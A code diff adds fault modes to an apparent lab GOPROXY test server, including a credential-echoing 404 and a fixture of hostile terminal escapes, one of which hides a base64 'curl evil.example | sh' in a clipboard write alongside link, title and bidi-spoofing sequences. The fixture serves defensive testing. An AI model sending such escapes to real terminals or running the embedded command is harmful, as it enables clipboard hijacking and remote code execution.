@@ -24,6 +24,11 @@ How a lab GOPROXY server misbehaves.
 - `prefix-mapping`: a reverse proxy whose `location PREFIX/` passes the prefix on to the backend (nginx's
   `proxy_pass` without the trailing slash): every path under `prefix` answers nginx's 404, while the same paths
   without the prefix are served. GOPROXY names `URL + prefix`, so go gets 404 for everything.
+- `long-list`: correct, but every `@v/list` also lists `versions` made-up versions (`v0.I.J`) before the real ones.
+- `escape-body`: every request gets `status` and a body of terminal escapes (a title change, a clipboard write, a
+  link, a screen clear, C1 controls, a bidi override), as a hostile or broken server might send.
+- `echo-headers`: every request gets 404 and a body that echoes the request's headers, raw and as a JSON map,
+  as some debugging servers do (credentials included).
 */
 export type GoproxyFault =
 	| {readonly kind: 'none'}
@@ -34,7 +39,10 @@ export type GoproxyFault =
 	| {readonly kind: 'html'}
 	| {readonly kind: 'altered-zip'}
 	| {readonly kind: 'altered-mod'; readonly delayMs?: number}
-	| {readonly kind: 'prefix-mapping'; readonly prefix: string};
+	| {readonly kind: 'prefix-mapping'; readonly prefix: string}
+	| {readonly kind: 'long-list'; readonly versions: number}
+	| {readonly kind: 'escape-body'; readonly status: FaultStatus}
+	| {readonly kind: 'echo-headers'};
 
 export type GoproxyServerOptions = {
 	/** @default {kind: 'none'} */
@@ -163,6 +171,28 @@ export async function startGoproxyServer(options: GoproxyServerOptions = {}): Pr
 			case 'none':
 			case 'altered-zip': {
 				send(catalog.answer(request.method ?? 'GET', record.path));
+				return;
+			}
+
+			case 'long-list': {
+				const answer = catalog.answer(request.method ?? 'GET', record.path);
+				send(record.path.endsWith('/@v/list') && answer.status === 200 ? {...answer, body: madeUpVersions(fault.versions) + String(answer.body)} : answer);
+				return;
+			}
+
+			case 'escape-body': {
+				send({status: fault.status, headers: textHeaders, body: hostileText});
+				return;
+			}
+
+			case 'echo-headers': {
+				const lines = Object.entries(request.headers).map(([name, value]) => `${name}: ${String(value)}`);
+				const map = JSON.stringify(Object.fromEntries(Object.entries(request.headers).map(([name, value]) => [name, [String(value)]])));
+				// Some also decode the credentials, and quote them URL-encoded.
+				const basic = /^basic\s+(\S+)/i.exec(String(request.headers.authorization ?? ''))?.[1];
+				const decoded = basic === undefined ? '' : Buffer.from(basic, 'base64').toString('utf8');
+				const who = decoded === '' ? '' : `you are ${decoded} (${encodeURIComponent(decoded)}); proxy-authorization=Basic ${basic}\n`;
+				send({status: 404, headers: textHeaders, body: `not found: ${record.path}\n${who}${map}\nyour request:\n${lines.join('\n')}\n`});
 				return;
 			}
 
@@ -422,6 +452,31 @@ export function faultAnswer(status: FaultStatus): Answer {
 		}
 	}
 }
+
+/** `count` made-up versions, one a line: `v0.0.0` … `v0.99.999` … (a thousand per minor version). */
+function madeUpVersions(count: number): string {
+	const lines: string[] = [];
+	for (let index = 0; index < count; index++) {
+		lines.push(`v0.${Math.floor(index / 1000)}.${index % 1000}\n`);
+	}
+
+	return lines.join('');
+}
+
+/**
+Terminal escapes a hostile server can send: OSC 0 (window title), OSC 52 (clipboard write), OSC 8 (a link),
+CSI 2J (clear the screen), the C1 forms of CSI and OSC (U+009B, U+009D), DEL and a bidi override (U+202E).
+*/
+export const hostileText = [
+	'upstream error \u001B]0;PWNED-TITLE\u0007',
+	'\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007clipboard',
+	'\u001B]8;;https://evil.example/\u0007click here\u001B]8;;\u0007',
+	'\u001B[2J\u001B[Hscreen cleared',
+	'\u009B31mC1 CSI\u009D0;c1-title\u009C',
+	'del\u007F and bell\u0007 and backspace\u0008',
+	'file \u202Egnp.exe\u202C and isolate \u2066x\u2069',
+	'',
+].join('\n');
 
 /** A hotel or airport network's login page, returned with 200 for any URL. */
 function captivePortalAnswer(): Answer {
